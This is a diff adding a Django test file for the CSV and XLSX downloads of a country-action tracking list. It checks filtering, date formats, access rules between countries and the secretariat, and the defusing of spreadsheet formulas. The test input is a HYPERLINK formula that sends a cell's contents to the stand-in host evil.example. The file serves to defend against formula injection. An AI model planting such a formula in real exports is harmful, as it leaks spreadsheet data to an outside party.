@@ -1,0 +1,115 @@
+"""CSV and XLSX downloads of the actions list: the filtered, visible rows, formulas defused."""
+
+import csv
+import io
+
+import openpyxl
+from django.urls import reverse
+
+from .filings import file_action
+
+CSV = reverse("tracking:actions_csv")
+XLSX = reverse("tracking:actions_xlsx")
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def _csv(response) -> list[list[str]]:
+    assert response["Content-Type"].startswith("text/csv")
+    assert "attachment" in response["Content-Disposition"]
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+def _xlsx(response) -> list[tuple]:
+    assert "attachment" in response["Content-Disposition"]
+    body = b"".join(response.streaming_content)
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    return list(sheet.iter_rows(values_only=True))
+
+
+def test_anonymous_visitors_cannot_download(client, db):
+    assert client.get(CSV).status_code == 302
+    assert client.get(XLSX).status_code == 302
+
+
+def test_the_csv_holds_the_filtered_rows_with_iso_dates(client, cycle, tajikistan, tjk_focal):
+    file_action(
+        tajikistan,
+        cycle,
+        tjk_focal,
+        title="School programme",
+        numbers=(12, 13),
+        status="ongoing",
+        start_date="2026-02-01",
+    )
+    file_action(tajikistan, cycle, tjk_focal, title="Border training")
+    client.force_login(tjk_focal)
+
+    rows = _csv(client.get(CSV, {"status": "ongoing"}))
+
+    assert rows[0][:4] == ["ID", "Participant code", "Participant", "Title"]
+    assert len(rows) == 2
+    assert rows[1][1:4] == ["TJK", "Tajikistan", "School programme"]
+    assert "OP12, OP13" in rows[1]
+    assert "Ongoing" in rows[1]
+    assert "2026-02-01" in rows[1]
+
+
+def test_the_list_links_to_the_downloads_with_its_filters(client, cycle, tjk_focal):
+    client.force_login(tjk_focal)
+
+    page = client.get(reverse("tracking:actions"), {"status": "ongoing", "q": "border"}).text
+
+    assert f'href="{CSV}?status=ongoing&amp;q=border"' in page
+    assert f'href="{XLSX}?status=ongoing&amp;q=border"' in page
+
+
+def test_the_csv_neutralises_formulas(client, cycle, tajikistan, tjk_focal):
+    file_action(tajikistan, cycle, tjk_focal, title=FORMULA, lead_institution="+44 ministry")
+    client.force_login(tjk_focal)
+
+    row = _csv(client.get(CSV))[1]
+
+    assert row[3] == "'" + FORMULA
+    assert row[4] == "'+44 ministry"
+
+
+def test_the_xlsx_neutralises_formulas_and_keeps_numbers(client, cycle, tajikistan, tjk_focal):
+    file_action(tajikistan, cycle, tjk_focal, title=FORMULA, progress=40, start_date="2026-02-01")
+    client.force_login(tjk_focal)
+
+    header, row = _xlsx(client.get(XLSX))
+
+    assert header[3] == "Title"
+    assert row[3] == "'" + FORMULA  # text, not a formula
+    assert row[8] == 40
+    assert row[9] == "2026-02-01"
+
+
+def test_another_country_downloads_nothing_of_tajikistans_drafts(
+    client, cycle, tajikistan, kazakhstan, tjk_focal, kaz_focal
+):
+    file_action(tajikistan, cycle, tjk_focal, title="Tajik draft plan")
+    file_action(kazakhstan, cycle, kaz_focal, title="Kazakh law reform")
+    client.force_login(kaz_focal)
+
+    asking_for_tajikistan = client.get(CSV, {"participant": tajikistan.pk})
+    all_csv = _csv(client.get(CSV))
+    xlsx_rows = _xlsx(client.get(XLSX))
+
+    # Tajikistan is no choice of the filter for Kazakhstan: refused, not ignored.
+    assert asking_for_tajikistan.status_code == 400
+    assert b"Tajik" not in asking_for_tajikistan.content
+    assert [row[3] for row in all_csv[1:]] == ["Kazakh law reform"]
+    assert [row[3] for row in xlsx_rows[1:]] == ["Kazakh law reform"]
+
+
+def test_the_secretariat_downloads_submitted_rows_but_never_drafts(
+    client, cycle, tajikistan, kazakhstan, tjk_focal, kaz_focal, secretariat
+):
+    file_action(tajikistan, cycle, tjk_focal, title="Tajik draft plan")
+    file_action(kazakhstan, cycle, kaz_focal, title="Kazakh law reform", state="approved")
+    client.force_login(secretariat)
+
+    assert [row[3] for row in _csv(client.get(CSV))[1:]] == ["Kazakh law reform"]
+    assert [row[3] for row in _xlsx(client.get(XLSX))[1:]] == ["Kazakh law reform"]
